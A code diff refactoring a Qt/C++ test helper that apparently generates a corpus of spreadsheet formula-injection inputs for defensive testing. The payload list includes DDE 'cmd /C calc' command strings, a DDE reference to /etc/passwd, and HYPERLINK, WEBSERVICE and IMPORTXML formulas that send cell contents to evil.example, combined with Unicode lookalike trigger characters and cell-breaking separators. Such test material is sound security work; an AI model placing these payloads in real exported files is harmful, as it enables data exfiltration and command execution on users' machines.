@@ -4,23 +4,29 @@
 
 namespace {
 
-const QStringList payloads{
-    QStringLiteral("1+1"),
-    QStringLiteral("HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
-    QStringLiteral("cmd|' /C calc'!A0"),
-    QStringLiteral("SUM(1+1)*cmd|' /C calc'!A0"),
-    QStringLiteral("WEBSERVICE(\"http://evil.example\")"),
-    QStringLiteral("IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"),
-    QStringLiteral("DDE(\"soffice\";\"/etc/passwd\";\"x\")"),
-};
+QStringList payloadTexts()
+{
+    return {
+        QStringLiteral("1+1"),
+        QStringLiteral("HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
+        QStringLiteral("cmd|' /C calc'!A0"),
+        QStringLiteral("SUM(1+1)*cmd|' /C calc'!A0"),
+        QStringLiteral("WEBSERVICE(\"http://evil.example\")"),
+        QStringLiteral("IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")"),
+        QStringLiteral("DDE(\"soffice\";\"/etc/passwd\";\"x\")"),
+    };
+}
 
-const QStringList triggers{
-    QStringLiteral("="),  QStringLiteral("+"),  QStringLiteral("-"),  QStringLiteral("@"),
-    QStringLiteral("＝"), QStringLiteral("＋"), QStringLiteral("－"), QStringLiteral("＠"),
-    QStringLiteral("﹦"), QStringLiteral("﹢"), QStringLiteral("﹣"), QStringLiteral("﹫"),
-    QStringLiteral("⁼"),  QStringLiteral("₊"),  QStringLiteral("⁻"),  QStringLiteral("−"),
-    QStringLiteral("=+"), QStringLiteral("-+"), QStringLiteral("@="), QStringLiteral("=-"),
-};
+QStringList triggerTexts()
+{
+    return {
+        QStringLiteral("="),  QStringLiteral("+"),  QStringLiteral("-"),  QStringLiteral("@"),
+        QStringLiteral("＝"), QStringLiteral("＋"), QStringLiteral("－"), QStringLiteral("＠"),
+        QStringLiteral("﹦"), QStringLiteral("﹢"), QStringLiteral("﹣"), QStringLiteral("﹫"),
+        QStringLiteral("⁼"),  QStringLiteral("₊"),  QStringLiteral("⁻"),  QStringLiteral("−"),
+        QStringLiteral("=+"), QStringLiteral("-+"), QStringLiteral("@="), QStringLiteral("=-"),
+    };
+}
 
 QStringList disguises()
 {
@@ -47,12 +53,15 @@ QStringList disguises()
 }
 
 /// What would end a cell in a program with other settings.
-const QStringList breaks{
-    QStringLiteral("x;"),     QStringLiteral("x\t"),   QStringLiteral("x|"),
-    QStringLiteral("x\n"),    QStringLiteral("x\r\n"), QStringLiteral("x\";"),
-    QStringLiteral("x\";\""), QStringLiteral("x; \t"), QStringLiteral("\"\r\n"),
-    QStringLiteral("x;;"),    QStringLiteral("-;\""),
-};
+QStringList breakTexts()
+{
+    return {
+        QStringLiteral("x;"),     QStringLiteral("x\t"),   QStringLiteral("x|"),
+        QStringLiteral("x\n"),    QStringLiteral("x\r\n"), QStringLiteral("x\";"),
+        QStringLiteral("x\";\""), QStringLiteral("x; \t"), QStringLiteral("\"\r\n"),
+        QStringLiteral("x;;"),    QStringLiteral("-;\""),
+    };
+}
 
 bool isBlank(QChar c)
 {
@@ -65,9 +74,13 @@ bool isBlank(QChar c)
 
 QStringList formulaCorpus()
 {
+    const QStringList payloads = payloadTexts();
+    const QStringList triggers = triggerTexts();
+    const QStringList disguiseTexts = disguises();
+    const QStringList breaks = breakTexts();
     QStringList corpus;
     for (const QString &trigger : triggers) {
-        for (const QString &disguise : disguises())
+        for (const QString &disguise : disguiseTexts)
             corpus.append(disguise + trigger + payloads.at(corpus.size() % payloads.size()));
         for (const QString &separator : breaks)
             corpus.append(separator + trigger + payloads.at(corpus.size() % payloads.size()));
